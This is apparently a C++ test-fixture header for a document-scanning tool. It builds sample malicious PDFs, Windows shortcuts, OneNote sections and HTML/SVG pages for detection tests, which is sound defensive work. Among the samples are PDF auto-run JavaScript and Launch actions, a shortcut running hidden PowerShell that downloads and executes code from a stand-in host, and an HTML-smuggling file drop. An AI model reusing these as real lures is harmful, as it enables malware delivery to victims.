// Small document fixtures built in memory for the documents doctests: PDFs
// with correct cross-reference tables (classic, and an xref stream indexing
// an object stream), [MS-SHLLINK] shortcuts, [MS-ONESTORE] sections with a
// FileDataStoreObject, HTML/SVG pages. Mirrors tests/e2e/test_documents.py.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace sandgate::testing {

inline std::string hex_encode(const std::string& s) {
  static const char* d = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    out.push_back(d[c >> 4]);
    out.push_back(d[c & 15]);
  }
  return out + ">";
}

inline std::string pad10(size_t v) {
  std::string s = std::to_string(v);
  return std::string(10 - s.size(), '0') + s;
}

// Objects 1..n with a classic xref table.
inline std::string make_pdf(const std::vector<std::string>& objs) {
  std::string out = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  std::vector<size_t> offs;
  for (size_t i = 0; i < objs.size(); ++i) {
    offs.push_back(out.size());
    out += std::to_string(i + 1) + " 0 obj\n" + objs[i] + "\nendobj\n";
  }
  size_t x = out.size();
  out += "xref\n0 " + std::to_string(objs.size() + 1) + "\n0000000000 65535 f \n";
  for (size_t o : offs) out += pad10(o) + " 00000 n \n";
  out += "trailer\n<< /Size " + std::to_string(objs.size() + 1) +
         " /Root 1 0 R >>\nstartxref\n" + std::to_string(x) + "\n%%EOF\n";
  return out;
}

inline const std::vector<std::string>& pages() {
  static const std::vector<std::string> p = {
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"};
  return p;
}

inline std::string pdf_with(std::string catalog, std::vector<std::string> more) {
  std::vector<std::string> objs = {std::move(catalog)};
  objs.insert(objs.end(), pages().begin(), pages().end());
  objs.insert(objs.end(), more.begin(), more.end());
  return make_pdf(objs);
}

inline std::string pdf_clean() {
  return pdf_with("<< /Type /Catalog /Pages 2 0 R >>", {});
}
inline std::string pdf_openaction_js() {
  return pdf_with("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                  {"<< /Type /Action /S /JavaScript /JS (app.alert\\('CV'\\);) >>"});
}
inline std::string pdf_obfuscated_js() {
  return pdf_with("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                  {"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>"});
}
inline std::string pdf_launch() {
  return pdf_with("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                  {"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"});
}
inline std::string pdf_embedded(const std::string& payload, const std::string& name) {
  std::string hex = hex_encode(payload);
  return pdf_with(
      "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + name +
          ") 4 0 R] >> >> >>",
      {"<< /Type /Filespec /F (" + name + ") /UF (" + name + ") /EF << /F 5 0 R >> >>",
       "<< /Type /EmbeddedFile /Filter /ASCIIHexDecode /Length " + std::to_string(hex.size()) +
           " /Params << /Size " + std::to_string(payload.size()) + " >> >>\nstream\n" + hex +
           "\nendstream"});
}
inline std::string pdf_uris() {
  return pdf_with("<< /Type /Catalog /Pages 2 0 R >>",
                  {"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/a) >> >>",
                   "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/b) >> >>"});
}

// Objects 1-3 plain; 4 (action) and 5 (script string) inside an
// /ASCIIHexDecode object stream (6), indexed by an xref stream (7).
inline std::string pdf_objstm_js() {
  std::map<int, std::string> packed = {
      {4, "<< /Type /Action /S /JavaScript /JS 5 0 R >>"},
      {5, "(this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);)"}};
  std::string head, data;
  for (auto& [n, body] : packed) {
    head += std::to_string(n) + " " + std::to_string(data.size()) + " ";
    data += body + "\n";
  }
  head += "\n";
  std::string hex = hex_encode(head + data);
  std::map<int, std::string> plain = {
      {1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"},
      {2, pages()[0]},
      {3, pages()[1]},
      {6, "<< /Type /ObjStm /N 2 /First " + std::to_string(head.size()) +
              " /Filter /ASCIIHexDecode /Length " + std::to_string(hex.size()) + " >>\nstream\n" +
              hex + "\nendstream"}};
  std::string out = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  std::map<int, size_t> offs;
  for (auto& [n, body] : plain) {
    offs[n] = out.size();
    out += std::to_string(n) + " 0 obj\n" + body + "\nendobj\n";
  }
  size_t xoff = out.size();
  std::string rows;
  auto row = [&](int type, uint32_t a, uint16_t b) {
    rows.push_back(static_cast<char>(type));
    for (int s = 24; s >= 0; s -= 8) rows.push_back(static_cast<char>((a >> s) & 0xff));
    rows.push_back(static_cast<char>(b >> 8));
    rows.push_back(static_cast<char>(b & 0xff));
  };
  for (int n = 0; n <= 7; ++n) {
    if (offs.count(n)) row(1, static_cast<uint32_t>(offs[n]), 0);
    else if (n == 4) row(2, 6, 0);
    else if (n == 5) row(2, 6, 1);
    else if (n == 7) row(1, static_cast<uint32_t>(xoff), 0);
    else row(0, 0, 65535);
  }
  out += "7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length " +
         std::to_string(rows.size()) + " >>\nstream\n" + rows + "\nendstream\nendobj\n";
  out += "startxref\n" + std::to_string(xoff) + "\n%%EOF\n";
  return out;
}

// ---------------------------------------------------------------------------
// LNK

inline void put_u16(std::string& s, uint16_t v) {
  s.push_back(static_cast<char>(v & 0xff));
  s.push_back(static_cast<char>(v >> 8));
}
inline void put_u32(std::string& s, uint32_t v) {
  for (int i = 0; i < 4; ++i) s.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
}

inline std::string make_lnk(const std::string& target, const std::string& args,
                            const std::string& workdir = "", const std::string& icon = "") {
  uint32_t flags = 0x02 | 0x80;
  if (!workdir.empty()) flags |= 0x10;
  if (!args.empty()) flags |= 0x20;
  if (!icon.empty()) flags |= 0x40;
  std::string h;
  put_u32(h, 0x4C);
  h += std::string("\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
  put_u32(h, flags);
  put_u32(h, 0x20);
  h += std::string(24, '\0');  // times
  put_u32(h, 0);               // file size
  put_u32(h, 0);               // icon index
  put_u32(h, 1);               // SW_SHOWNORMAL
  h += std::string(12, '\0');  // hotkey, reserved
  std::string volume;
  put_u32(volume, 17);
  put_u32(volume, 3);
  put_u32(volume, 0x1234ABCD);
  put_u32(volume, 0x10);
  volume.push_back('\0');
  std::string body = volume + target + std::string(1, '\0') + std::string(1, '\0');
  std::string li;
  put_u32(li, static_cast<uint32_t>(0x1C + body.size()));
  put_u32(li, 0x1C);
  put_u32(li, 1);
  put_u32(li, 0x1C);
  put_u32(li, static_cast<uint32_t>(0x1C + volume.size()));
  put_u32(li, 0);
  put_u32(li, static_cast<uint32_t>(0x1C + volume.size() + target.size() + 1));
  li += body;
  auto sd = [](const std::string& s) {
    std::string o;
    put_u16(o, static_cast<uint16_t>(s.size()));
    for (char c : s) {
      o.push_back(c);
      o.push_back('\0');
    }
    return o;
  };
  std::string strings;
  if (!workdir.empty()) strings += sd(workdir);
  if (!args.empty()) strings += sd(args);
  if (!icon.empty()) strings += sd(icon);
  std::string out = h + li + strings;
  put_u32(out, 0);
  return out;
}

inline std::string base64(const std::string& in) {
  static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out.push_back(t[(v >> s) & 63]);
  }
  if (i + 1 == in.size()) {
    uint32_t v = uint8_t(in[i]) << 16;
    out += {t[(v >> 18) & 63], t[(v >> 12) & 63], '=', '='};
  } else if (i + 2 == in.size()) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
    out += {t[(v >> 18) & 63], t[(v >> 12) & 63], t[(v >> 6) & 63], '='};
  }
  return out;
}

inline std::string utf16le(const std::string& s) {
  std::string o;
  for (char c : s) {
    o.push_back(c);
    o.push_back('\0');
  }
  return o;
}

inline std::string lnk_powershell_enc() {
  return make_lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "-NoProfile -w hidden -enc " +
                      base64(utf16le("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")),
                  "C:\\Windows\\System32", "C:\\Windows\\System32\\shell32.dll");
}

// ---------------------------------------------------------------------------
// OneNote

inline std::string make_onenote(const std::vector<std::string>& payloads) {
  std::string out("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
  out.resize(1024, '\0');
  for (const auto& p : payloads) {
    out += std::string("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
    put_u32(out, static_cast<uint32_t>(p.size()));
    put_u32(out, 0);
    out += std::string(12, '\0');  // unused, reserved
    out += p;
    out += std::string((8 - p.size() % 8) % 8, '\0');
    out += std::string("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24", 16);
  }
  return out;
}

// ---------------------------------------------------------------------------
// HTML / SVG

inline std::string html_smuggling(const std::string& payload) {
  return "<!DOCTYPE html>\n<html><body><script>\nvar d = '" + base64(payload) +
         "';\nvar bin = window.atob(d);\nvar buf = new Uint8Array(bin.length);\n"
         "for (var i = 0; i < bin.length; i++) { buf[i] = bin.charCodeAt(i); }\n"
         "var blob = new Blob([buf], {type: 'application/octet-stream'});\n"
         "var a = document.createElement('a');\na.href = URL.createObjectURL(blob);\n"
         "a.download = 'invoice.zip';\na.click();\n</script></body></html>\n";
}

inline std::string svg_script() {
  return "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" "
         "height=\"10\">\n<script>window.location.href='http://x.invalid/';</script>\n"
         "<foreignObject width=\"10\" height=\"10\"><div>hi</div></foreignObject>\n</svg>\n";
}

inline std::string html_clean() {
  return "<!DOCTYPE html>\n<html><head><title>CV</title></head><body><p>Hello</p></body></html>\n";
}

}  // namespace sandgate::testing
